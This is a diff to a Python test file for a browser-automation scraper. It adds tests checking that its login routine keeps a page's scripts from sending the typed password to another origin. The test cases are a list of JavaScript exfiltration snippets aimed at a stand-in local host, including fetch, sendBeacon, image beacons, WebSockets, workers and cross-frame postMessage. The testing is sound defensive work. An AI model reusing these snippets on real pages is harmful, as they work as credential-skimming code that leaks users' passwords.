@@ -13,7 +13,13 @@ from playwright.async_api import async_playwright
 from jdp_spider.browser.provider import find_browser, launch_options
 from jdp_spider.pages import grid
 from jdp_spider.pages import page as page_module
-from jdp_spider.pages.errors import BrowserFailed, LoggedOut, PageChanged, SiteMoved
+from jdp_spider.pages.errors import (
+    BrowserFailed,
+    LoggedOut,
+    LoginRefused,
+    PageChanged,
+    SiteMoved,
+)
 from jdp_spider.pages.login import log_in
 from jdp_spider.pages.page import SitePage
 from jdp_spider.pages.place import check_form
@@ -273,9 +279,35 @@ def test_what_a_script_has_sent_is_not_sent_on_and_figures_of_its_use_are_let_go
         "fetch('{other}/x', {method: 'POST', body: JSON.stringify({a: [text]})})",
         "fetch('{other}/x', {method: 'POST', body: new URLSearchParams({a: text})})",
         "fetch('{other}/x?a=' + encodeURIComponent(text), {mode: 'no-cors'})",
+        "navigator.sendBeacon('{other}/x', text)",
+        pytest.param(
+            "navigator.sendBeacon('{other}/x', new URLSearchParams({a: btoa('x' + text)}))",
+            marks=pytest.mark.long,
+        ),
+        "new Image().src = '{other}/x?a=' + text",
+        pytest.param("import('{other}/' + text)", marks=pytest.mark.long),
+        "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: text + 'x'.repeat(200000)})",
+        pytest.param("new EventSource('{other}/x?a=' + text)", marks=pytest.mark.long),
+        "window.open('{other}/x?a=' + text)",
+        pytest.param(
+            "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: new Blob([text])})",
+            marks=pytest.mark.long,
+        ),
+        "window.frames[0].postMessage(text, '*')",
     ],
 )
 def test_a_script_sends_the_password_to_no_other_origin(sending: str) -> None:
+    async def work(page: Page, site: Site, server: Server) -> Any:
+        with pytest.raises(SiteMoved, match="Login leads to http://localhost"):
+            await log_in(page, "me", SECRET, site, list)
+        await asyncio.sleep(0.2)
+        return server.posted, [path for path in server.asked if SECRET in path]
+
+    assert run(work, sending_page(sending)) in (([], []), (set(), []))
+
+
+def sending_page(sending: str) -> dict[str, str]:
+    """A login whose script does this with the password; with a frame that sends what it gets."""
     script = f"""<script>
         document.querySelector('form').addEventListener('submit', event => {{
             event.preventDefault();
@@ -283,14 +315,38 @@ def test_a_script_sends_the_password_to_no_other_origin(sending: str) -> None:
             {sending};
         }});
     </script>"""
+    frame = """<script>
+        addEventListener('message', ({data}) => { new Image().src = '/x?a=' + data; });
+    </script>"""
+    return {
+        "127.0.0.1/login": login() + script + "<iframe src='{other}/frame'></iframe>",
+        "localhost/frame": frame,
+    }
+
+
+QUIET = {
+    "socket": "new WebSocket('{other}/x?a='.replace('http', 'ws') + text)",
+    "socket of a frame": "document.body.append(document.createElement('iframe')); "
+    "new frames[1].WebSocket('{other}/x?a='.replace('http', 'ws') + text)",
+    "worker": "new Worker(URL.createObjectURL(new Blob(["
+    "\"fetch('{other}/x?a=\" + text + \"', {mode: 'no-cors'})\"])))",
+    "long": "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: text + 'x'.repeat(2e6)})",
+}
+
+
+@browser
+@pytest.mark.parametrize("name", QUIET)
+def test_ways_that_cannot_be_looked_into_are_closed(name: str) -> None:
+    """The login goes on: such a thing may be part of any page."""
+    ends = "setTimeout(() => fetch('/send', {method: 'POST', body: text}), 300)"
+    sending = f"try {{ {QUIET[name]} }} catch {{}} {ends}"
 
     async def work(page: Page, site: Site, server: Server) -> Any:
-        with pytest.raises(SiteMoved, match="Login leads to http://localhost"):
+        with pytest.raises(LoginRefused):
             await log_in(page, "me", SECRET, site, list)
-        await asyncio.sleep(0.2)
-        return server.posted
+        return {host for host, _ in server.posted}, [x for x in server.asked if "localhost/x" in x]
 
-    assert run(work, {"127.0.0.1/login": login() + script}) in ([], set())
+    assert run(work, sending_page(sending)) == ({"127.0.0.1"}, [])
 
 
 # Pressing
